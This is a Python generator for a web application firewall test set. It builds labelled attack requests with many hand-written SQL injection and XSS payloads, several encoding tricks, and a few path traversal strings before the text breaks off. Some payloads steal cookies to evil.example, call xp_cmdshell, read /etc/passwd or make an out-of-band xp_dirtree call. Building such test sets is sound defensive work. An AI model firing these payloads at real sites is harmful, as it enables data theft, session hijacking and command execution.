#!/usr/bin/env python3
"""Blind, hand-written WAF challenge set generator (stdlib only).

Writes attacks.jsonl and benign.jsonl next to this script.
Every payload below was written by hand for this set; nothing is copied
from public payload lists or WAF test corpora.
"""
import base64
import json
import os
import random
import re
import struct
import sys
from collections import Counter, OrderedDict
from urllib.parse import quote, quote_plus

OUT = os.path.dirname(os.path.abspath(__file__))
R = random.Random(20240611)

LOCATIONS = {"query", "query_name", "path", "json", "form", "multipart", "xml",
             "header", "user_agent", "referer", "cookie"}

# --------------------------------------------------------------------------
# user agents
UA_BROWSER = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36 Edg/123.0.2420.81",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 13; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/124.0.6367.88 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:115.0) Gecko/20100101 Firefox/115.0",
    "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 OPR/109.0.0.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 YaBrowser/24.1.0.0 Safari/537.36",
]
UA_CLIENT = [
    "curl/8.5.0", "python-requests/2.31.0", "okhttp/4.12.0", "PostmanRuntime/7.37.3",
    "axios/1.6.8", "Go-http-client/2.0", "Apache-HttpClient/4.5.14 (Java/17.0.10)",
    "Dalvik/2.1.0 (Linux; U; Android 12; SM-A525F Build/SP1A.210812.016)",
    "MyShopApp/5.12.0 (iPhone; iOS 17.4; Scale/3.00)", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "Wget/1.21.4", "HTTPie/3.2.2", "aws-sdk-js/3.563.0 ua/2.0 os/linux#5.10 lang/js md/nodejs#20.12.2",
]
UA_BOT = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.118 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "Twitterbot/1.0",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.1; +https://openai.com/gptbot)",
    "Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
    "Datadog Agent/7.52.1",
]
ALL_UA = UA_BROWSER + UA_CLIENT + UA_BOT

ACCEPT_HTML = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"
LANGS = ["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "fr-FR,fr;q=0.9", "ja-JP,ja;q=0.9,en;q=0.6",
         "pt-BR,pt;q=0.9,en-US;q=0.8", "es-ES,es;q=0.9", "zh-CN,zh;q=0.9", "ar-EG,ar;q=0.9,en;q=0.7",
         "ru-RU,ru;q=0.9,en;q=0.8", "ko-KR,ko;q=0.9", "tr-TR,tr;q=0.9", "hi-IN,hi;q=0.9,en;q=0.8"]

# --------------------------------------------------------------------------
# encoding helpers
UNRES = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-._~"


def e(s, safe=""):
    """standard percent-encoding (UTF-8), like encodeURIComponent-ish"""
    return quote(s, safe=safe)


def eb(s):
    """browser-ish: keep a few sub-delims unencoded"""
    return quote(s, safe="/:,@!$'()*;")


def ep(s):
    """form style, space as +"""
    return quote_plus(s, safe="")


def e2(s):
    """double URL encoding"""
    return quote(quote(s, safe=""), safe="")


def efull(s):
    """every byte encoded, even unreserved"""
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def elow(s):
    """lower-case hex"""
    return re.sub(r"%[0-9A-F]{2}", lambda m: m.group(0).lower(), quote(s, safe=""))


def emix(s):
    """random partial encoding: encode only some unreserved chars as well"""
    out = []
    for ch in s:
        if ch in UNRES and R.random() < 0.35:
            out.append("%%%02x" % ord(ch) if R.random() < 0.5 else "%%%02X" % ord(ch))
        else:
            out.append(quote(ch, safe=""))
    return "".join(out)


ENCODERS = {"std": e, "browser": eb, "plus": ep, "double": e2, "full": efull, "lower": elow, "mix": emix}


def jstr(s, esc=""):
    """JSON string literal, escaping chars in esc (or all non-alnum if esc=='*') as \\uXXXX"""
    out = ['"']
    for ch in s:
        o = ord(ch)
        if (esc == "*" and not ch.isalnum()) or (esc and esc != "*" and ch in esc):
            if o > 0xFFFF:
                v = o - 0x10000
                out.append("\\u%04x\\u%04x" % (0xD800 + (v >> 10), 0xDC00 + (v & 0x3FF)))
            else:
                out.append("\\u%04x" % o)
        elif ch == '"':
            out.append('\\"')
        elif ch == "\\":
            out.append("\\\\")
        elif ch == "\n":
            out.append("\\n")
        elif ch == "\r":
            out.append("\\r")
        elif ch == "\t":
            out.append("\\t")
        elif o < 0x20:
            out.append("\\u%04x" % o)
        else:
            out.append(ch)
    out.append('"')
    return "".join(out)


def jdump(obj, esc="", keyesc=False):
    """tiny JSON serializer that can \\u-escape selected chars inside strings"""
    if isinstance(obj, dict):
        return "{" + ",".join(jstr(k, esc if keyesc else "") + ":" + jdump(v, esc, keyesc) for k, v in obj.items()) + "}"
    if isinstance(obj, (list, tuple)):
        return "[" + ",".join(jdump(v, esc, keyesc) for v in obj) + "]"
    if isinstance(obj, str):
        return jstr(obj, esc)
    return json.dumps(obj)


def xesc(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def xent(s, hexa=False):
    return "".join(("&#x%x;" % ord(c)) if hexa else ("&#%d;" % ord(c)) for c in s)


def boundary(style=None):
    style = style or R.choice(["webkit", "firefox", "py", "curl"])
    rnd = "".join(R.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789") for _ in range(16))
    if style == "webkit":
        return "----WebKitFormBoundary" + rnd
    if style == "firefox":
        return "---------------------------" + "".join(R.choice("0123456789") for _ in range(28))
    if style == "py":
        return "".join(R.choice("0123456789abcdef") for _ in range(32))
    return "------------------------" + "".join(R.choice("0123456789abcdef") for _ in range(16))


def multipart(parts, bnd=None):
    """parts: list of dicts {name, value, filename?, ctype?}"""
    bnd = bnd or boundary()
    lines = []
    for p in parts:
        lines.append("--" + bnd)
        cd = 'Content-Disposition: form-data; name="%s"' % p["name"]
        if p.get("filename") is not None:
            cd += '; filename="%s"' % p["filename"]
        lines.append(cd)
        if p.get("ctype"):
            lines.append("Content-Type: " + p["ctype"])
        lines.append("")
        lines.append(p["value"])
    lines.append("--" + bnd + "--")
    lines.append("")
    return "multipart/form-data; boundary=" + bnd, "\r\n".join(lines)


def b64(s):
    if isinstance(s, str):
        s = s.encode()
    return base64.b64encode(s).decode()


def b64u(s):
    if isinstance(s, str):
        s = s.encode()
    return base64.urlsafe_b64encode(s).decode().rstrip("=")


def jwt(payload, alg="HS256"):
    h = b64u(json.dumps({"alg": alg, "typ": "JWT"}, separators=(",", ":")))
    p = b64u(json.dumps(payload, separators=(",", ":")))
    sig = b64u(bytes(R.getrandbits(8) for _ in range(32 if alg == "HS256" else 64)))
    return h + "." + p + "." + sig


def rhex(n):
    return "".join(R.choice("0123456789abcdef") for _ in range(n))


def ralnum(n):
    return "".join(R.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789") for _ in range(n))


def java_ser(classname, uid=None):
    """minimal, hand-built Java serialization stream of an empty object"""
    cn = classname.encode()
    uid = uid if uid is not None else R.getrandbits(63)
    return (b"\xac\xed\x00\x05" + b"\x73\x72" + struct.pack(">H", len(cn)) + cn +
            struct.pack(">q", uid) + b"\x02" + struct.pack(">H", 0) + b"\x78\x70")


def ps_enc(cmd):
    return base64.b64encode(cmd.encode("utf-16-le")).decode()


# --------------------------------------------------------------------------
# record building
RFC3986_PATH = re.compile(r"^(?:[A-Za-z0-9\-._~!$&'()*+,;=:@/]|%[0-9A-Fa-f]{2})*$")
RFC3986_QUERY = re.compile(r"^(?:[A-Za-z0-9\-._~!$&'()*+,;=:@/?\[\]]|%[0-9A-Fa-f]{2})*$")


def base_headers(ua=None, accept=None, api=True, lang=True):
    h = [["User-Agent", ua or R.choice(UA_BROWSER + UA_BROWSER + UA_CLIENT)]]
    h.append(["Accept", accept or ("application/json, text/plain, */*" if api else ACCEPT_HTML)])
    if lang and R.random() < 0.7:
        h.append(["Accept-Language", R.choice(LANGS)])
    if R.random() < 0.5:
        h.append(["Accept-Encoding", "gzip, deflate, br"])
    return h


def set_header(h, name, value):
    for kv in h:
        if kv[0].lower() == name.lower():
            kv[1] = value
            return h
    h.append([name, value])
    return h


class Builder:
    def __init__(self, prefix):
        self.prefix = prefix
        self.rows = []
        self.counts = Counter()
        self.seen = set()

    def add(self, cls, location, method, path, query="", headers=None, content_type=None, body=None, note=""):
        assert location in LOCATIONS, location
        assert path.startswith("/"), path
        assert RFC3986_PATH.match(path), ("bad path", path)
        assert RFC3986_QUERY.match(query), ("bad query", query)
        headers = headers or base_headers()
        for k, v in headers:
            assert k.lower() not in ("host", "content-length", "content-type"), k
            assert all(0x20 <= ord(c) < 0x7f for c in v), ("header not printable", k, v)
            assert all(0x21 <= ord(c) < 0x7f and c not in ':' for c in k), k
        if body is not None:
            assert content_type, "body without content type"
            if content_type.startswith("application/json") or content_type.endswith("+json"):
                json.loads(body)
            if content_type.startswith("multipart/form-data"):
                b = content_type.split("boundary=", 1)[1]
                assert ("--" + b + "--\r\n") in body, "bad multipart"
        key = (method, path, query, json.dumps(headers), content_type, body)
        if key in self.seen:
            return None
        self.seen.add(key)
        self.counts[cls] += 1
        rid = "%s-%s-%04d" % (self.prefix, cls, self.counts[cls])
        row = OrderedDict([
            ("id", rid), ("class", cls), ("location", location), ("method", method),
            ("path", path), ("query", query), ("headers", headers),
            ("content_type", content_type), ("body", body), ("note", note)])
        self.rows.append(row)
        return row

    def write(self, fn):
        with open(os.path.join(OUT, fn), "w", encoding="utf-8") as f:
            for r in self.rows:
                f.write(json.dumps(r, ensure_ascii=False) + "\n")


# --------------------------------------------------------------------------
# generic attack placement
DEFAULT_PATHS = {
    "sqli": ["/api/items", "/api/v1/products", "/search", "/api/users", "/reports/sales", "/catalog/list.php", "/api/orders"],
    "xss": ["/search", "/comments", "/api/v2/profile", "/feedback", "/blog/post", "/api/messages"],
    "traversal": ["/download", "/api/files", "/static/view", "/export", "/index.php", "/api/v1/attachments"],
    "cmdi": ["/api/network/ping", "/tools/lookup", "/admin/diagnostics", "/api/convert", "/cgi-bin/status"],
    "crlf": ["/redirect", "/login", "/api/track", "/set-language", "/oauth/callback", "/contact"],
    "php": ["/index.php", "/page.php", "/wp-admin/admin-ajax.php", "/api/render", "/upload.php", "/admin/settings.php"],
    "java": ["/api/login", "/struts/index.action", "/api/v1/events", "/app/search", "/actuator/env", "/functionRouter"],
    "rfi": ["/index.php", "/page.php", "/main.php", "/modules/loader.php", "/api/template"],
    "nosqli": ["/api/login", "/api/users", "/api/products/search", "/graphql-lite/find", "/api/v1/accounts"],
    "ssrf": ["/api/fetch", "/api/webhooks", "/proxy", "/api/v1/import", "/image/resize", "/api/preview"],
}
DEFAULT_PARAMS = {
    "sqli": ["id", "q", "user", "category", "sort", "order_id", "name"],
    "xss": ["q", "comment", "name", "msg", "title", "redirect", "bio"],
    "traversal": ["file", "path", "doc", "template", "name", "page", "attachment"],
    "cmdi": ["host", "ip", "target", "filename", "domain", "cmd"],
    "crlf": ["next", "url", "lang", "return_to", "redirect_uri", "ref"],
    "php": ["page", "file", "code", "data", "input", "view"],
    "java": ["q", "name", "redirect", "expr", "username", "message"],
    "rfi": ["page", "file", "include", "template", "module", "lang"],
    "nosqli": ["username", "filter", "q", "where", "email", "id"],
    "ssrf": ["url", "uri", "target", "callback", "image_url", "feed", "dest"],
}
HDR_NAMES = {
    "sqli": ["X-Forwarded-For", "X-Client-Id", "X-Tenant", "X-Request-Id"],
    "xss": ["X-Forwarded-Host", "X-Display-Name", "X-Original-URL"],
    "traversal": ["X-File-Name", "X-Template", "X-Original-URL", "X-Rewrite-URL"],
    "cmdi": ["X-Forwarded-For", "X-Device-Id", "X-Host"],
    "crlf": ["X-Forwarded-Host", "X-Return-To", "X-Redirect"],
    "php": ["X-Forwarded-For", "X-Debug", "X-Custom"],
    "java": ["X-Api-Version", "X-Forwarded-For", "X-Request-Id", "True-Client-IP", "X-Correlation-Id"],
    "rfi": ["X-Include", "X-Template-Url"],
    "nosqli": ["X-Filter", "X-Query"],
    "ssrf": ["X-Forwarded-Host", "X-Callback-Url", "X-Original-Host", "X-Webhook-Url"],
}


SPREAD = {
    "sqli": ["json", "form", "cookie", "header", "xml", "multipart"],
    "xss": ["json", "form", "cookie", "referer", "multipart"],
    "traversal": ["json", "form", "cookie", "xml"],
    "cmdi": ["json", "form", "header", "cookie", "xml"],
    "ssrf": ["json", "form", "header", "xml", "multipart", "cookie"],
    "rfi": ["form", "json", "cookie", "multipart"],
    "php": ["form", "json", "cookie"],
}
_spread_ctr = Counter()


def place(B, cls, loc, payload, note, param=None, path=None, method=None, enc="std", raw=False,
          extra=None, hname=None, esc="", xml=None, xraw=False, xentities=None, jobj=None,
          filename=None, fvalue=None, cookie=None, ua=None, referer=None, headers=None, ct=None, body=None):
    param = param or R.choice(DEFAULT_PARAMS[cls])
    path = path or R.choice(DEFAULT_PATHS[cls])
    if loc == "query" and not raw and cls in SPREAD and payload and not extra and method is None:
        _spread_ctr[cls] += 1
        if _spread_ctr[cls] % 3 == 2:
            alts = SPREAD[cls]
            new = alts[(_spread_ctr[cls] // 3) % len(alts)]
            printable = all(0x20 <= ord(ch) < 0x7f for ch in payload)
            if new in ("header", "referer") and not printable:
                new = "json"
            loc = new
            note = note + " (moved to " + new + " body/field)" if new in ("json", "form", "xml", "multipart") else note + " (moved to " + new + ")"
            if new == "cookie":
                payload = e(payload)
            if new == "referer":
                payload = "https://www.example.org/search?" + param + "=" + e(payload)
    h = headers or base_headers(api=(loc in ("json", "xml")))
    q = ""
    if ua:
        set_header(h, "User-Agent", ua)
    encf = ENCODERS[enc]
    extra_q = "&".join("%s=%s" % (k, e(v)) for k, v in (extra or []))
    if loc == "query":
        val = payload if raw else encf(payload)
        q = (extra_q + "&" if extra_q else "") + "%s=%s" % (param, val)
        method = method or "GET"
    elif loc == "query_name":
        name = payload if raw else encf(payload)
        q = (extra_q + "&" if extra_q else "") + (name if "=" in (payload if raw else "") else name + "=" + (fvalue if fvalue is not None else "1"))
        method = method or "GET"
    elif loc == "path":
        seg = payload if raw else encf(payload)
        path = path.rstrip("/") + "/" + seg
        q = extra_q
        method = method or "GET"
    elif loc == "json":
        if body is None:
            if jobj is not None:
                body = jdump(jobj, esc, keyesc=bool(esc))
            else:
                obj = OrderedDict(extra or [])
                obj[param] = payload
                body = jdump(obj, esc)
        ct = ct or "application/json"
        method = method or "POST"
        q = ""
    elif loc == "form":
        if body is None:
            val = payload if raw else (ep(payload) if enc == "std" else encf(payload))
            pre = "&".join("%s=%s" % (k, ep(v)) for k, v in (extra or []))
            body = (pre + "&" if pre else "") + "%s=%s" % (param, val)
        ct = ct or "application/x-www-form-urlencoded"
        method = method or "POST"
    elif loc == "multipart":
        if body is None:
            parts = [{"name": k, "value": v} for k, v in (extra or [])]
            if filename is not None:
                parts.append({"name": param, "filename": filename, "ctype": "application/octet-stream" if not fvalue else "text/plain",
                              "value": fvalue if fvalue is not None else payload})
            else:
                parts.append({"name": param, "value": payload})
            ct, body = multipart(parts)
        method = method or "POST"
    elif loc == "xml":
        if body is None:
            if payload is None:
                inner = ""
            elif xraw:
                inner = payload
            elif xentities:
                inner = xent(payload, hexa=(xentities == "hex"))
            else:
                inner = xesc(payload)
            tpl = xml or '<?xml version="1.0" encoding="UTF-8"?>\n<request>\n  <{p}>{v}</{p}>\n</request>'
            body = tpl.replace("{p}", param).replace("{v}", inner)
        ct = ct or R.choice(["application/xml", "text/xml"])
        method = method or "POST"
    elif loc == "header":
        set_header(h, hname or R.choice(HDR_NAMES[cls]), payload)
        method = method or "GET"
        q = extra_q
    elif loc == "user_agent":
        set_header(h, "User-Agent", payload)
        method = method or "GET"
        q = extra_q
    elif loc == "referer":
        set_header(h, "Referer", payload)
        method = method or "GET"
        q = extra_q
    elif loc == "cookie":
        c = cookie or "%s=%s" % (param, payload)
        others = ["_ga=GA1.2.%d.%d" % (R.randint(10**8, 10**9), R.randint(1600000000, 1718000000)),
                  "sid=" + rhex(32), "theme=dark", "cart_id=" + rhex(12)]
        R.shuffle(others)
        parts = others[:R.randint(0, 2)] + [c]
        R.shuffle(parts)
        set_header(h, "Cookie", "; ".join(parts))
        method = method or "GET"
        q = extra_q
    if referer and loc != "referer":
        set_header(h, "Referer", referer)
    return B.add(cls, loc, method, path, q, h, ct, body, note)


# ==========================================================================
# ATTACKS
def attacks_sqli(B):
    c = "sqli"

    def P(loc, pl, note, **kw):
        place(B, c, loc, pl, note, **kw)
    P("query", "' OR 1=1-- -", "classic tautology, comment dash-space-dash", param="q")
    P("query", "1 UNION SELECT username,password FROM users--", "union select credentials", param="id", enc="plus")
    P("query", "1) AND SLEEP(5)#", "mysql time-based with paren close", param="id")
    P("query", "1'/**/UnIoN/**/SeLeCt/**/null,version(),null-- -", "inline comments as whitespace, mixed case", param="id", enc="browser")
    P("query", "1;WAITFOR DELAY '0:0:5'--", "mssql stacked time delay", param="order_id")
    P("query", "1 AND extractvalue(1,concat(0x7e,(select user())))", "mysql error-based extractvalue", param="id")
    P("query", "' AND 1=CONVERT(int,@@version)--", "mssql error-based convert", param="name")
    P("query", "1' AND (SELECT 1 FROM pg_sleep(5)) IS NOT NULL--", "postgres pg_sleep", param="id", enc="double")
    P("query", "-1 union all select 1,group_concat(table_name),3 from information_schema.tables where table_schema=database()", "schema enumeration", param="category", enc="lower")
    P("query", "1' or '1'='1", "quoted tautology", param="user", enc="full")
    P("query", "'||(SELECT CASE WHEN (1=1) THEN TO_CHAR(1/0) ELSE NULL END FROM dual)||'", "oracle conditional error", param="name")
    P("query", "1\x0bUNION\x0bSELECT\x0b1,2,3", "vertical tab as whitespace", param="id")
    P("query", "1\x0aunion\x0d\x0aselect\x09table_name\x0cfrom\x0ainformation_schema.tables", "newline/tab/formfeed whitespace", param="id")
    P("query", "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2,3", "mysql versioned comments", param="id")
    P("query", "1 AND ascii(substring((select password from users limit 1),1,1))>64", "boolean blind substring", param="id", enc="mix")
    P("query", "1' ORDER BY 10-- ", "column count probing", param="cat")
    P("query", "'; DROP TABLE users; --", "stacked drop table", param="q", enc="plus")
    P("query", "1; EXEC master..xp_cmdshell 'whoami'--", "mssql xp_cmdshell", param="id")
    P("query", "1' AND updatexml(null,concat(0x0a,version()),null)-- -", "mysql updatexml error", param="id")
    P("query", "' UNION SELECT NULL,load_file('/etc/passwd'),NULL-- -", "load_file", param="q")
    P("query", "1 AND BENCHMARK(5000000,MD5(1))", "mysql benchmark delay", param="id", enc="browser")
    P("query", "1 RLIKE (SELECT (CASE WHEN (4521=4521) THEN 1 ELSE 0x28 END))", "rlike boolean", param="id")
    P("query", "') OR ('a'='a", "paren-quote tautology", param="user")
    P("query", "1e0UNION SELECT 1,user(),3", "scientific notation glued to union", param="id")
    P("query", "1 and 1=dbms_pipe.receive_message(('a'),10)", "oracle dbms_pipe delay", param="id")
    P("query", "(CASE WHEN (SELECT substr(version(),1,1))='P' THEN price ELSE name END)", "order-by injection via CASE", param="sort", path="/api/v1/products")
    P("query", "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)", "mysql procedure analyse", param="id")
    P("query", "1' GROUP BY 1,2,3 HAVING 1=1--", "group by having", param="id", enc="lower")
    P("query", "1%20and%201%3D0%20union%20select%20table_name%2Cnull%20from%20all_tables--", "already-encoded then double encoded", param="id", raw=False, enc="std")
    P("query", "' UNION SELECT sql,null FROM sqlite_master--", "sqlite schema", param="q", path="/api/notes")
    P("query", "1;select pg_sleep(10)", "postgres stacked sleep", param="id")
    P("query", "1 or 1 like 1", "like-tautology no quotes", param="id")
    P("query", "x' AnD 1=(sElEcT cOuNt(*) fRoM users WHERE username='admin' AND password LIKE 'a%')-- ", "blind like password guess", param="q")
    P("query", "1 && (select 1 from dual where 1=1)", "&& operator", param="id", enc="full")
    P("query_name", "id' OR '1'='1", "injection in parameter name", raw=False)
    P("query_name", "filter[name') OR 1=1--]", "bracketed param name injection", enc="browser")
    P("path", "1 UNION SELECT password FROM users", "union in REST path segment", path="/api/items")
    P("path", "5'%20AND%20'1'%3D'1", "quoted boolean in path", path="/api/users", raw=True)
    P("path", "42;SELECT%20pg_sleep(7)--", "stacked in path", path="/api/orders", raw=True)
    P("json", "admin' -- ", "json login username comment", param="username", path="/api/login", extra=[("password", "x")])
    P("json", "1 OR 1=1", "numeric tautology json", param="id", esc="'= ", path="/api/items/lookup")
    P("json", "x' UNION SELECT card_number,cvv FROM payments-- -", "json field unicode-escaped quote", param="search", esc="'")
    P("json", None, "json nested filter value", jobj={"filter": {"status": "active' OR 'x'='x"}, "page": 1})
    P("form", "admin'--", "form login bypass", param="username", path="/login", extra=[("password", "anything")])
    P("form", "' or ''='", "empty-string tautology form", param="password", path="/login", extra=[("username", "admin")])
    P("form", "1' AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,(SELECT user()),0x71))s), 8446744073709551610, 8446744073709551610)))-- x", "mysql bigint overflow error", param="id")
    P("multipart", "' OR 1=1 --", "multipart field tautology", param="title", path="/api/upload", extra=[("album", "holiday")])
    P("xml", "1 or 1=1", "xml element tautology", param="productId", path="/api/stock")
    P("xml", "1 UNION SELECT username||'~'||password FROM users", "xml numeric entities hide union", param="storeId", xentities="dec", path="/api/stock")
    P("cookie", "abc' AND '1'='1", "cookie session id boolean", param="session_id")
    P("cookie", e("1' AND SLEEP(5)#"), "encoded cookie time-based", param="tracking")
    P("user_agent", "Mozilla/5.0' AND SLEEP(5) AND '1'='1", "UA logged to DB")
    P("referer", "https://shop.example.com/list?cat=1%27%20UNION%20SELECT%201%2C2--", "referer stored by analytics")
    P("header", "127.0.0.1' OR 1=1-- ", "XFF logged into db", hname="X-Forwarded-For")
    P("header", "1;DECLARE @q varchar(99);SET @q='\\\\x.evil.example\\a';EXEC master.dbo.xp_dirtree @q;--", "mssql OOB via xp_dirtree in header", hname="X-Tenant")


def attacks_xss(B):
    c = "xss"

    def P(loc, pl, note, **kw):
        place(B, c, loc, pl, note, **kw)
    P("query", "<script>alert(1)</script>", "basic script tag", param="q")
    P("query", "<img src=x onerror=alert(document.domain)>", "img onerror", param="q", enc="plus")
    P("query", "<svg/onload=alert(1)>", "svg slash separator", param="name", enc="browser")
    P("query", "\"><script>fetch('//evil.example/c?'+document.cookie)</script>", "attr breakout cookie theft", param="q")
    P("query", "javascript:alert(1)", "js scheme in redirect", param="redirect", path="/logout")
    P("query", "<iframe src=\"javascript:alert(1)\">", "iframe js src", param="msg")
    P("query", "<ScRiPt>prompt(1)</sCrIpT>", "mixed case", param="q", enc="double")
    P("query", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "entity tab inside scheme", param="bio")
    P("query", "<details open ontoggle=alert(1)>", "details ontoggle", param="title", enc="full")
    P("query", "'-alert(1)-'", "JS string context breakout", param="name")
    P("query", "</script><script>alert(1)</script>", "close script context", param="q")
    P("query", "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">", "entity-encoded handler", param="q")
    P("query", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "svg animate onbegin", param="q", enc="lower")
    P("query", "<input autofocus onfocus=alert(1)>", "autofocus onfocus", param="name")
    P("query", "{{constructor.constructor('alert(1)')()}}", "client-side template injection", param="q")
    P("query", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">", "object data uri", param="msg")
    P("query", "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>", "atob eval", param="q", enc="mix")
    P("query", "\" onmouseover=\"alert(1)", "attribute injection", param="q")
    P("query", "<scr<script>ipt>alert(1)</scr</script>ipt>", "nested tags against strip filters", param="comment")
    P("query", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", "meta refresh", param="msg")
    P("query", "<x onpointerenter=alert`1`>hover", "custom tag, template literal call", param="q")
    P("query", "<img src=1 onerror=window['al'+'ert'](1)>", "string concat function name", param="q", enc="browser")
    P("query", "data:text/html,<script>alert(document.origin)</script>", "data uri in url param", param="redirect", path="/go")
    P("query", "<svg onload=setTimeout('ale'+'rt(1)')>", "setTimeout string", param="q")
    P("query", "<IMG SRC=JaVaScRiPt:alert('XSS')>", "img js src mixed case", param="avatar")
    P("query", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "parser differential", param="q")
    P("query", "<body onpageshow=alert(1)>", "body onpageshow", param="q", enc="full")
    P("query", "jaVasCript:/*--></title></style></textarea></script><svg/onload=alert()//>", "self-made polyglot", param="url", path="/go")
    P("query_name", "<script>alert(1)</script>", "xss in parameter name reflected in debug page")
    P("query_name", "\"><svg onload=alert(1)>", "attr-breakout param name", enc="lower")
    P("path", "<script>alert(1)</script>", "reflected 404 path", path="/wiki")
    P("path", "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", "path segment img", path="/u", raw=True)
    P("path", "%253Csvg%2520onload%253Dalert(1)%253E", "double encoded in path", path="/search", raw=True)
    P("json", "<img src=x onerror=alert(1)>", "stored via JSON api", param="displayName", path="/api/v2/profile", method="PATCH")
    P("json", "<script>alert(1)</script>", "json with \\u003c escapes", param="comment", esc="<>/", path="/api/comments")
    P("json", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>click</text></a></svg>", "svg xlink in bio", param="bio", path="/api/v2/profile", method="PUT")
    P("json", "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">", "srcdoc with entity-encoded script", param="html", path="/api/pages")
    P("form", "<script>document.location='https://evil.example/?c='+document.cookie</script>", "form comment cookie theft", param="comment", path="/comments")
    P("form", "<textarea onfocus=alert(1) autofocus>", "textarea autofocus", param="message", path="/feedback")
    P("form", "<style>@import'//evil.example/x.css';</style>", "css import", param="signature", path="/forum/settings")
    P("form", "<marquee onstart=alert(1)>hi</marquee>", "marquee onstart", param="bio", enc="mix")
    P("multipart", "x", "svg upload with script", param="avatar", filename="avatar.svg",
      fvalue='<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><circle r="40"/></svg>', path="/api/upload")
    P("multipart", "\"><img src=x onerror=alert(1)>.png", "xss in filename", param="file", filename="\"><img src=x onerror=alert(1)>.png", fvalue="PNGDATA", path="/api/upload")
    P("multipart", "<video><source onerror=alert(1)></video>", "multipart caption field", param="caption", path="/api/upload")
    P("xml", "<script>alert(1)</script>", "xml escaped script (decodes to tag)", param="comment", path="/api/feedback")
    P("xml", "<![CDATA[<img src=x onerror=alert(1)>]]>", "CDATA-wrapped payload", param="title", xraw=True, path="/api/feedback")
    P("xml", "<img src=x onerror=alert(1)>", "hex entity encoded in xml", param="name", xentities="hex", path="/api/feedback")
    P("header", "\"><script>alert(1)</script>", "reflected X-Forwarded-Host", hname="X-Forwarded-Host")
    P("user_agent", "<script>alert('ua')</script>", "UA shown in admin log viewer")
    P("referer", "https://www.example.org/\"><svg/onload=alert(1)>", "referer reflected in page")
    P("cookie", e("<img src=x onerror=alert(1)>"), "cookie reflected username", param="username")
    P("cookie", "\"><script>alert(1)</script>", "raw cookie value", param="lang")


def attacks_traversal(B):
    c = "traversal"

    def P(loc, pl, note, **kw):
        place(B, c, loc, pl, note, **kw)
    P("query", "../../../../etc/passwd", "classic dot-dot-slash", param="file", enc="browser")
    P("query", "..%2f..%2f..%2f..%2fetc%2fpasswd", "encoded slashes only", param="file", raw=True)
